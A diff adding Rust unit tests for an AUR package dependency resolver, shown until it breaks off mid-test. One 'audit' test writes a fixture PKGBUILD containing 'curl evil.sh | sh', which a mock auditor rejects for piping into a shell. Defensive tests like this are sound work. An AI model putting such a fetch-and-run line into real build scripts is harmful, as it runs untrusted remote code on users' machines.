+
+    #[test]
+    fn split_members() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("split");
+        let path = root.join("foo");
+        std::fs::create_dir_all(&path).unwrap();
+        std::fs::write(
+            path.join(".SRCINFO"),
+            "pkgbase = foo\n\tpkgver = 1.0\n\tpkgrel = 1\n\tarch = any\n\n\
+             pkgname = foo-docs\n\npkgname = foo\n\npkgname = libfoo\n",
+        )
+        .unwrap();
+        let pkgs = HashSet::from(["foo"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let foo = res.to_build.get("foo").unwrap();
+
+        assert_eq!(vec!["foo", "foo-docs", "libfoo"], foo.members);
+        assert_eq!(
+            vec!["foo-docs"],
+            foo.requested_members(&HashSet::from(["foo-docs", "bar"]))
+        );
+        assert_eq!(
+            vec!["foo", "foo-docs", "libfoo"],
+            foo.requested_members(&HashSet::from(["bar"]))
+        );
+    }
+
+    #[test]
+    fn dry_run_plan() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .installed("c")
+            .official("a", &["b"])
+            .official("b", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("dry-run-plan");
+        fake_clone(&root, "x", "x", &["y", "a", "c"]);
+        fake_clone(&root, "y", "y", &["b"]);
+        fake_clone(&root, "z", "z", &[]);
+        let pkgs = HashSet::from(["x", "z"]);
+
+        // The clones aren't git repositories, so any pull would fail.
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.refresh = true;
+        let plan = plan(&opts, &pkgs).unwrap();
+
+        let expt = Plan {
+            to_install: vec!["a".to_string(), "b".to_string()],
+            to_build: vec![
+                vec!["y".to_string()],
+                vec!["x".to_string(), "z".to_string()],
+            ],
+            satisfied: vec!["c".to_string()],
+        };
+        assert_eq!(expt, plan);
+    }
+
+    #[test]
+    fn timing() {
+        let db = MockDb::default().installed("base-devel").official("a", &[]);
+        let (pool, _) = mock_pool(db);
+        let clone_d = clone_root("timing");
+        let pkgs = HashSet::from(["a"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &clone_d);
+        let before = Instant::now();
+        let res = resolve(&opts, &pkgs).unwrap();
+
+        assert!(res.duration > Duration::ZERO);
+        assert!(res.duration <= before.elapsed());
+    }
+
+    #[test]
+    fn migrated_to_official() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .foreign("foo")
+            .official("foo", &["bar"])
+            .foreign("bar")
+            .official("bar", &[])
+            .installed("baz")
+            .official("baz", &[]);
+        let (pool, _) = mock_pool(db);
+        let clone_d = clone_root("migrated");
+        let pkgs = HashSet::from(["foo", "baz"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &clone_d);
+        let res = resolve(&opts, &pkgs).unwrap();
+
+        // `bar` wasn't requested, and `baz` came from a repository already.
+        assert_eq!(vec!["foo"], res.migrated);
+        assert!(res.to_install.contains("foo"));
+    }
+
+    #[test]
+    fn commands() {
+        let db = MockDb::default().installed("base-devel").official("a", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("commands");
+        fake_clone(&root, "x", "x", &["y", "z", "a"]);
+        fake_clone(&root, "y", "y", &[]);
+        fake_clone(&root, "z", "z", &[]);
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let plan = InstallPlan::new::<()>(res).unwrap();
+        let cmd =
+            |p: &str, flags: &str| format!("cd '{}' && makepkg {}", root.join(p).display(), flags);
+        let expt = vec![
+            vec![cmd("y", "-sci --asdeps"), cmd("z", "-sci --asdeps")],
+            vec![cmd("x", "-sci")],
+        ];
+
+        assert_eq!(expt, build_commands(&plan, &root));
+    }
+
+    #[test]
+    fn provided_dependency_commands() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("provided-commands");
+        fake_clone(&root, "x", "x", &["foo-virt"]);
+        fake_clone_with(&root, "foo", "foo", &["provides = foo-virt=1.0"]);
+        let fetch = |url: &str| -> Result<Vec<crate::faur::Package>, ()> {
+            let pkgs = if faur_names(url).contains(&"foo-virt") {
+                vec![faur_pkg("foo-virt", "foo", 1)]
+            } else {
+                Vec::new()
+            };
+            Ok(pkgs)
+        };
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &fetch, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let plan = InstallPlan::new::<()>(res).unwrap();
+        let cmd =
+            |p: &str, flags: &str| format!("cd '{}' && makepkg {}", root.join(p).display(), flags);
+        let expt = vec![cmd("foo", "-sci --asdeps"), cmd("x", "-sci")];
+        let cmds: Vec<_> = build_commands(&plan, &root)
+            .into_iter()
+            .flatten()
+            .sorted()
+            .collect();
+
+        assert_eq!(expt, cmds);
+    }
+
+    #[test]
+    fn quoted_commands() {
+        let root = Path::new("/tmp/it's here");
+        let plan = InstallPlan {
+            steps: vec![Step::Build {
+                packages: vec!["x".to_string()],
+            }],
+            clone_paths: HashMap::new(),
+            dependencies: HashSet::new(),
+        };
+        let expt = vec![vec![r"cd '/tmp/it'\''s here/x' && makepkg -sci".to_string()]];
+
+        assert_eq!(expt, build_commands(&plan, root));
+    }
+
+    #[test]
+    fn disallowed_repo() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("a", &["b"])
+            .official_in("core-testing", "b", &[]);
+        let allowed = HashSet::from(["core".to_string(), "extra".to_string()]);
+        let pkgs = HashSet::from(["a"]);
+        let root = clone_root("repos");
+
+        let (pool, _) = mock_pool(db);
+        let mut opts = ResolveOpts::new(pool.clone(), &no_faur, &root);
+        assert!(resolve(&opts, &pkgs).is_ok());
+
+        opts.allowed_repos = Some(&allowed);
+        let errs = resolve(&opts, &pkgs).unwrap_err();
+        let found = errs
+            .inner_errors()
+            .into_iter()
+            .any(|e| matches!(e, Error::DisallowedRepo(p, r) if p == "b" && r == "core-testing"));
+        assert!(found);
+    }
+
+    #[test]
+    fn satisfied_over_provided() {
+        let mut res = Resolution::default();
+        res.satisfied.insert("java-environment".to_string());
+        res.provided
+            .insert("java-environment".to_string(), "jdk".to_string());
+        res.provided.insert("jre".to_string(), "jdk".to_string());
+        res.normalize();
+
+        assert!(res.satisfied.contains("java-environment"));
+        assert_eq!(None, res.provider("java-environment"));
+        assert_eq!(Some("jdk"), res.provider("jre"));
+    }
+
+    #[test]
+    fn manifest() {
+        let root = clone_root("manifest");
+        fake_clone(&root, "foo", "foo", &["bar"]);
+        let commit = git_commit(&root.join("foo"));
+        let kinds = DepKinds::default() | DepKinds::CHECK;
+
+        let mut manifest = DependencyManifest {
+            packages: vec![ManifestEntry {
+                name: "foo".to_string(),
+                commit: commit.clone(),
+                deps: HashSet::from(["bar".to_string()]),
+            }],
+        };
+
+        let res = resolve_from_manifest::<()>(&root, kinds, &manifest).unwrap();
+        assert!(res.to_build.contains("foo"));
+
+        manifest.packages[0].deps.insert("baz".to_string());
+        let err = resolve_from_manifest::<()>(&root, kinds, &manifest).unwrap_err();
+        assert!(matches!(
+            err.inner_errors().head,
+            Error::ManifestDrift(p, Drift::Deps { .. }) if p == "foo"
+        ));
+
+        manifest.packages[0].commit = "deadbeef".to_string();
+        let err = resolve_from_manifest::<()>(&root, kinds, &manifest).unwrap_err();
+        assert!(matches!(
+            err.inner_errors().head,
+            Error::ManifestDrift(_, Drift::Commit { actual, .. }) if *actual == commit
+        ));
+    }
+
+    #[test]
+    fn ignored_makedep_versions() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .installed_at("cmake", "3.19.0-1")
+            .installed_at("libfoo", "1.0-1")
+            .official("cmake", &[])
+            .official("libfoo", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("makedep-versions");
+        fake_clone_with(
+            &root,
+            "x",
+            "x",
+            &["makedepends = cmake>=3.20", "depends = libfoo>=2.0"],
+        );
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.contains("cmake"));
+        assert!(res.to_install.contains("libfoo"));
+
+        opts.ignore_makedep_versions = true;
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.satisfied.contains("cmake"));
+        assert!(res.to_install.contains("libfoo"));
+    }
+
+    #[test]
+    fn makedep_and_versioned_runtime_dep() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .installed_at("libfoo", "1.0-1")
+            .official("libfoo", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("makedep-and-runtime");
+        fake_clone_with(
+            &root,
+            "x",
+            "x",
+            &["makedepends = libfoo>=1.5", "depends = libfoo>=2.0"],
+        );
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.ignore_makedep_versions = true;
+
+        // The bare makedep never wins out over the runtime demand.
+        for _ in 0..20 {
+            let res = resolve(&opts, &pkgs).unwrap();
+            assert!(res.to_install.contains("libfoo"));
+            assert!(res.satisfied.contains("libfoo").not());
+        }
+    }
+
+    #[test]
+    fn merged_demands() {
+        let merged = |ds: &[&str]| -> Vec<String> {
+            merge_demands(ds.iter().map(|d| d.to_string()))
+                .into_iter()
+                .sorted()
+                .collect()
+        };
+
+        assert_eq!(vec!["foo>=2"], merged(&["foo", "foo>=2"]));
+        assert_eq!(vec!["foo>=2"], merged(&["foo>=1.5", "foo>=2"]));
+        assert_eq!(vec!["foo>2"], merged(&["foo>=2", "foo>2"]));
+        assert_eq!(vec!["foo=1.8"], merged(&["foo>=2", "foo=1.8"]));
+        assert_eq!(vec!["foo<2"], merged(&["foo<3", "foo<2", "foo"]));
+        assert_eq!(vec!["bar", "foo>=2"], merged(&["foo>=2", "bar"]));
+    }
+
+    #[test]
+    fn virtual_names() {
+        let mut java = satisfier("jre-openjdk", &[]);
+        java.provides = vec!["java-runtime".to_string()];
+        let mut db = MockDb::default().installed("base-devel");
+        db.sync.insert("jre-openjdk".to_string(), java);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("virtuals");
+        fake_clone_with(
+            &root,
+            "x",
+            "x",
+            &["depends = jre-openjdk", "provides = x-cli=1.0"],
+        );
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let mut names: Vec<_> = res.virtual_provides().collect();
+        names.sort();
+        assert_eq!(vec!["java-runtime", "x", "x-cli"], names);
+    }
+
+    #[test]
+    fn soft_deadline() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("a", &["b", "c"])
+            .official("b", &[])
+            .official("c", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("deadline");
+        let pkgs = HashSet::from(["a"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.soft_deadline = Some(Instant::now());
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.contains("a"));
+        assert_eq!(1, res.to_install.len());
+        let expt = HashSet::from(["b".to_string(), "c".to_string()]);
+        assert_eq!(expt, res.unexplored);
+    }
+
+    #[test]
+    fn popularity() {
+        let (pool, _) = mock_pool(MockDb::default().installed("base-devel"));
+        let root = clone_root("popularity");
+        fake_clone(&root, "x", "x", &[]);
+        fake_clone(&root, "y", "y", &[]);
+        let fetch = |url: &str| -> Result<Vec<crate::faur::Package>, ()> {
+            let pkgs = faur_names(url)
+                .into_iter()
+                .filter_map(|n| match n {
+                    "x-lib" => Some(faur_pkg("x-lib", "x", 2)),
+                    "y-lib" => Some(faur_pkg("y-lib", "y", 50)),
+                    _ => None,
+                })
+                .collect();
+            Ok(pkgs)
+        };
+        let pkgs = HashSet::from(["x-lib", "y-lib"]);
+
+        let mut opts = ResolveOpts::new(pool, &fetch, &root);
+        opts.min_votes = Some(10);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert_eq!(Some(&(2, 0.02)), res.popularity.get("x-lib"));
+        assert_eq!(Some(&(50, 0.5)), res.popularity.get("y-lib"));
+        assert_eq!(HashSet::from(["x-lib".to_string()]), res.low_popularity);
+    }
+
+    #[test]
+    fn popularity_of_clones() {
+        let (pool, _) = mock_pool(MockDb::default().installed("base-devel"));
+        let root = clone_root("cloned-popularity");
+        fake_clone(&root, "x", "x", &["y"]);
+        fake_clone(&root, "y", "y", &[]);
+        let calls = Mutex::new(Vec::new());
+        let fetch = |url: &str| -> Result<Vec<crate::faur::Package>, ()> {
+            calls.lock().unwrap().push(url.to_string());
+            let pkgs = faur_names(url)
+                .into_iter()
+                .filter_map(|n| match n {
+                    "x" => Some(faur_pkg("x", "x", 50)),
+                    "y" => Some(faur_pkg("y", "y", 2)),
+                    _ => None,
+                })
+                .collect();
+            Ok(pkgs)
+        };
+        let pkgs = HashSet::from(["x"]);
+
+        // Clones alone need no lookups.
+        let mut opts = ResolveOpts::new(pool, &fetch, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.popularity.is_empty());
+        assert!(calls.lock().unwrap().is_empty());
+
+        // Unless votes matter.
+        opts.min_votes = Some(10);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert_eq!(Some(&(50, 0.5)), res.popularity.get("x"));
+        assert_eq!(Some(&(2, 0.02)), res.popularity.get("y"));
+        assert_eq!(HashSet::from(["y".to_string()]), res.low_popularity);
+        assert_eq!(1, calls.lock().unwrap().len());
+    }
+
+    #[test]
+    fn only_missing() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .installed("b")
+            .official("a", &["b", "c"])
+            .official("b", &[])
+            .official("c", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("missing");
+        fake_clone(&root, "x", "x", &["a"]);
+        let pkgs = HashSet::from(["x"]);
+
+        let calls = Mutex::new(0);
+        let fetch = |_: &str| -> Result<Vec<crate::faur::Package>, ()> {
+            *calls.lock().unwrap() += 1;
+            Ok(Vec::new())
+        };
+        let mut opts = ResolveOpts::new(pool, &fetch, &root);
+        opts.min_votes = Some(10);
+        let missing = missing_only(&opts, &pkgs).unwrap();
+        let expt = HashSet::from(["a".to_string(), "c".to_string(), "x".to_string()]);
+        assert_eq!(expt, missing);
+
+        // Votes don't matter for what's missing.
+        assert_eq!(0, *calls.lock().unwrap());
+    }
+
+    #[test]
+    fn sonames() {
+        assert!(is_soname("libfoo.so"));
+        assert!(is_soname("libfoo.so=1-64"));
+        assert!(!is_soname("foo>=1.0"));
+        assert!(!is_soname("libso"));
+
+        let mut db = MockDb::default()
+            .installed("base-devel")
+            .official("foo", &[]);
+        db.sync
+            .insert("libfoo.so".to_string(), satisfier("libfoo", &[]));
+        let (pool, db) = mock_pool(db);
+        let root = clone_root("sonames");
+        fake_clone(&root, "x", "x", &["libfoo.so=1-64", "foo>=1.0"]);
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.contains("libfoo"));
+        assert!(res.to_install.contains("foo"));
+
+        let queries = db.queries.lock().unwrap();
+        assert!(queries.contains(&"libfoo.so=1-64".to_string()));
+        assert!(queries.contains(&"foo".to_string()));
+    }
+
+    #[test]
+    fn multiple_arches() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("common", &[])
+            .official("x86-only", &[])
+            .official("arm-only", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("multiarch");
+        fake_clone_with(
+            &root,
+            "x",
+            "x",
+            &[
+                "arch = x86_64",
+                "arch = aarch64",
+                "depends = common",
+                "depends_x86_64 = x86-only",
+                "depends_aarch64 = arm-only",
+            ],
+        );
+        let pkgs = HashSet::from(["x"]);
+        let arches = ["x86_64".to_string(), "aarch64".to_string()];
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve_multiarch(&opts, &pkgs, &arches).unwrap();
+        let names = |arch: &str| -> HashSet<String> {
+            res[arch].to_install.iter().map(|o| o.to_string()).collect()
+        };
+
+        assert_eq!(
+            HashSet::from(["common".to_string(), "x86-only".to_string()]),
+            names("x86_64")
+        );
+        assert_eq!(
+            HashSet::from(["common".to_string(), "arm-only".to_string()]),
+            names("aarch64")
+        );
+    }
+
+    #[test]
+    fn arch_specific_deps() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("common", &[])
+            .official("libx86", &[])
+            .official("gcc-x86", &[])
+            .official("libarm", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("arch-deps");
+        fake_clone_with(
+            &root,
+            "x",
+            "x",
+            &[
+                "arch = x86_64",
+                "arch = aarch64",
+                "depends = common",
+                "depends_x86_64 = libx86",
+                "makedepends_x86_64 = gcc-x86",
+                "depends_aarch64 = libarm",
+            ],
+        );
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.arch = Some("x86_64");
+        let res = resolve(&opts, &pkgs).unwrap();
+        let names: HashSet<_> = res.to_install.iter().map(|o| o.name.as_str()).collect();
+
+        assert_eq!(HashSet::from(["common", "libx86", "gcc-x86"]), names);
+
+        if cfg!(target_arch = "x86_64") {
+            assert_eq!("x86_64", host_arch());
+        }
+
+        // By default, the dependencies of other architectures are left out.
+        let opts = ResolveOpts::new(opts.pool.clone(), &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let names: HashSet<_> = res.to_install.iter().map(|o| o.name.as_str()).collect();
+
+        assert!(names.contains("common"));
+        assert_eq!(host_arch() == "x86_64", names.contains("libx86"));
+        assert_eq!(host_arch() == "aarch64", names.contains("libarm"));
+    }
+
+    #[test]
+    fn clone_paths() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("clone-paths");
+        fake_clone(&root, "x", "x", &["y"]);
+        fake_clone(&root, "y", "y", &[]);
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let expt = HashMap::from([
+            ("x".to_string(), root.join("x")),
+            ("y".to_string(), root.join("y")),
+        ]);
+
+        assert_eq!(expt, res.clone_paths);
+    }
+
+    #[test]
+    fn installed_source() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .installed_at("foo", "1.0-1")
+            .official("foo", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("installed-source");
+        fake_clone(&root, "x", "x", &["foo>=2.0"]);
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.contains("foo"));
+
+        opts.prefer_installed_source = true;
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.satisfied.contains("foo"));
+        assert!(res.to_install.is_empty());
+    }
+
+    #[test]
+    fn downgrades() {
+        let mut db = MockDb::default()
+            .installed("base-devel")
+            .installed_at("foo", "2.0-1")
+            .official("foo", &[]);
+        db.sync.get_mut("foo").unwrap().version = "1.0-1".to_string();
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("downgrades");
+        let pkgs = HashSet::from(["foo"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let expt = HashMap::from([(
+            "foo".to_string(),
+            ("2.0-1".to_string(), "1.0-1".to_string()),
+        )]);
+
+        assert_eq!(expt, res.downgrades);
+    }
+
+    #[test]
+    fn only_deps() {
+        let db = MockDb::default().installed("base-devel").official("a", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("deps-only");
+        fake_clone(&root, "x", "x", &["y", "a"]);
+        fake_clone(&root, "y", "y", &[]);
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.deps_only = true;
+        let res = resolve(&opts, &pkgs).unwrap();
+
+        assert_eq!(HashSet::from(["x".to_string()]), res.roots);
+        assert!(res.to_build.contains("y"));
+        assert!(res.to_build.contains("x").not());
+        assert!(res.to_install.contains("a"));
+    }
+
+    #[test]
+    fn generation() {
+        let root = clone_root("generation");
+        fake_clone(&root, "x", "x", &[]);
+        let before = clone_dir_generation(&root);
+        assert_eq!(before, clone_dir_generation(&root));
+
+        let later = std::time::SystemTime::now() + std::time::Duration::from_secs(60);
+        std::fs::File::options()
+            .write(true)
+            .open(root.join("x").join(".SRCINFO"))
+            .and_then(|f| f.set_modified(later))
+            .unwrap();
+
+        assert_ne!(before, clone_dir_generation(&root));
+    }
+
+    #[test]
+    fn provided_by_installed() {
+        let mut db = MockDb::default()
+            .installed("base-devel")
+            .official("foo", &[]);
+        db.local.insert("foo".to_string(), satisfier("bar", &[]));
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("satisfied-by");
+        let pkgs = HashSet::from(["foo"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let expt = HashMap::from([("foo".to_string(), "bar".to_string())]);
+
+        assert_eq!(expt, res.satisfied_by);
+    }
+
+    #[test]
+    fn report_file() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .installed("b")
+            .official("a", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("report");
+        fake_clone(&root, "x", "x", &["a", "b"]);
+        let pkgs = HashSet::from(["x"]);
+        let path = root.join("report.log");
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.report_path = Some(&path);
+        resolve(&opts, &pkgs).unwrap();
+
+        let report = std::fs::read_to_string(&path).unwrap();
+        let lines: HashSet<_> = report.lines().collect();
+        let aur = format!("aur x {}", root.join("x").display());
+        let expt = HashSet::from([aur.as_str(), "official a", "satisfied b"]);
+
+        assert_eq!(expt, lines);
+    }
+
+    #[test]
+    fn canonicalized_names() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("python-foo", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("canonicalize");
+        fake_clone(&root, "x", "x", &["python3-foo>=1.0"]);
+        let pkgs = HashSet::from(["x"]);
+        let canon = |p: &str| p.replace("python3-", "python-");
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.canonicalize = Some(&canon);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let diag = Diagnostic::Canonicalized {
+            from: "python3-foo".to_string(),
+            to: "python-foo".to_string(),
+        };
+
+        assert!(res.to_install.contains("python-foo"));
+        assert_eq!(vec![diag], res.diagnostics);
+    }
+
+    #[test]
+    fn placeholder_versions() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("placeholder");
+        fake_clone(&root, "x", "x", &["foo-git>=2.0", "bar>=2.0"]);
+        fake_clone_with(&root, "foo-git", "foo-git", &["pkgver = 0"]);
+        fake_clone(&root, "bar", "bar", &[]);
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let diag = Diagnostic::UnmetDemand {
+            demand: "bar>=2.0".to_string(),
+            version: "1.0-1".to_string(),
+        };
+
+        assert!(res.to_build.contains("foo-git"));
+        assert_eq!(vec![diag], res.diagnostics);
+    }
+
+    #[test]
+    fn error_kinds() {
+        let err: Error<()> = Error::Resolutions(Box::new(nev![
+            Error::DoesntExist("a".to_string()),
+            Error::Resolutions(Box::new(nev![
+                Error::DoesntExist("b".to_string()),
+                Error::Git(crate::git::Error::Clone(PathBuf::from("c")))
+            ]))
+        ]));
+        let expt = HashMap::from([("doesnt-exist", 2), ("git", 1)]);
+
+        assert_eq!(expt, err.kind_counts());
+    }
+
+    #[test]
+    fn preferred_providers() {
+        let mut db = MockDb::default()
+            .installed("base-devel")
+            .official("jdk-a", &[])
+            .official("jdk-b", &[]);
+        db.sync
+            .insert("java-environment".to_string(), satisfier("jdk-a", &[]));
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("preferred");
+        fake_clone(&root, "x", "x", &["java-environment"]);
+        let pkgs = HashSet::from(["x"]);
+        let prefs = HashMap::from([("java-environment".to_string(), "jdk-b".to_string())]);
+
+        let mut opts = ResolveOpts::new(pool.clone(), &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.contains("jdk-a"));
+
+        opts.preferred_providers = Some(&prefs);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.contains("jdk-b"));
+        assert!(res.to_install.contains("jdk-a").not());
+    }
+
+    #[test]
+    fn feature_deps() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("lua", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("features");
+        fake_clone(&root, "mpv", "mpv", &[]);
+        let pkgs = HashSet::from(["mpv"]);
+        let features = HashMap::from([("mpv".to_string(), vec!["lua".to_string()])]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.is_empty());
+
+        opts.feature_deps = Some(&features);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let mpv = res.to_build.iter().find(|b| b.name == "mpv").unwrap();
+        assert!(res.to_install.contains("lua"));
+        assert!(mpv.deps.contains("lua"));
+    }
+
+    #[test]
+    fn strict_faur() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("strict-faur");
+        fake_clone(&root, "x", "x", &["a"]);
+        fake_clone(&root, "a-git", "a-git", &[]);
+        let pkgs = HashSet::from(["x"]);
+        let fetch = |url: &str| -> Result<Vec<crate::faur::Package>, ()> {
+            if url.ends_with("by=prov") {
+                Ok(vec![
+                    faur_pkg("a-bin", "a-bin", 1),
+                    faur_pkg("a-git", "a-git", 1),
+                ])
+            } else {
+                Ok(Vec::new())
+            }
+        };
+
+        let mut opts = ResolveOpts::new(pool, &fetch, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_build.contains("a-git"));
+
+        opts.strict = true;
+        let err = resolve(&opts, &pkgs).unwrap_err();
+        let candidates = vec!["a-bin".to_string(), "a-git".to_string()];
+        assert!(err
+            .inner_errors()
+            .iter()
+            .any(|e| matches!(e, Error::AmbiguousFaur(p, cs) if p == "a" && cs == &candidates)));
+    }
+
+    #[test]
+    fn strict_provider() {
+        let mut db = MockDb::default()
+            .installed("base-devel")
+            .official("jdk-a", &[])
+            .official("jdk-b", &[]);
+        db.sync
+            .insert("java-environment".to_string(), satisfier("jdk-a", &[]));
+        db.providers.insert(
+            "java-environment".to_string(),
+            vec![satisfier("jdk-b", &[]), satisfier("jdk-a", &[])],
+        );
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("strict-provider");
+        fake_clone(&root, "x", "x", &["java-environment"]);
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.contains("jdk-a"));
+
+        opts.strict = true;
+        let err = resolve(&opts, &pkgs).unwrap_err();
+        let candidates = vec!["jdk-a".to_string(), "jdk-b".to_string()];
+        assert!(err.inner_errors().iter().any(|e| matches!(
+            e,
+            Error::AmbiguousProvider(p, cs) if p == "java-environment" && cs == &candidates
+        )));
+    }
+
+    #[test]
+    fn strict_base_mismatch() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("strict-base");
+        fake_clone(&root, "x", "y", &[]);
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert_eq!(1, res.diagnostics.len());
+
+        opts.strict = true;
+        let err = resolve(&opts, &pkgs).unwrap_err();
+        assert!(err
+            .inner_errors()
+            .iter()
+            .any(|e| matches!(e, Error::BaseMismatch(d, b) if d == "x" && b == "y")));
+    }
+
+    #[test]
+    fn audit() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("audit");
+        fake_clone(&root, "x", "x", &["y"]);
+        fake_clone(&root, "y", "y", &[]);
+        std::fs::write(root.join("x").join("PKGBUILD"), "build() { make; }").unwrap();
+        std::fs::write(root.join("y").join("PKGBUILD"), "curl evil.sh | sh").unwrap();
+        let pkgs = HashSet::from(["x"]);
+        let audit = |_: &str, pkgbuild: &str| {
+            if pkgbuild.contains("| sh") {
+                AuditResult::Reject("pipes into a shell".to_string())
+            } else {
+                AuditResult::Accept
+            }
+        };
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.pkgbuild_audit = Some(&audit);
+        let err = resolve(&opts, &pkgs).unwrap_err();
+
+        assert!(err
+            .inner_errors()
+            .iter()
+            .any(|e| matches!(e, Error::AuditRejected(p, _) if p == "y")));
+    }
+
+    #[test]
+    fn missing_optdeps() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("a", &[])
+            .official("b", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("optdeps");
+        fake_clone(&root, "x", "x", &["a"]);
+        let info = root.join("x").join(".SRCINFO");
+        let mut contents = std::fs::read_to_string(&info).unwrap();
+        contents.push_str("\toptdepends = b: for extra things\n\toptdepends = nope: gone\n");
+        std::fs::write(&info, contents).unwrap();
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.dep_kinds |= DepKinds::OPT;
+        let res = resolve(&opts, &pkgs).unwrap();
+
+        assert!(res.to_build.contains("x"));
+        assert!(res.to_install.contains("a"));
+        assert!(res.to_install.contains("b"));
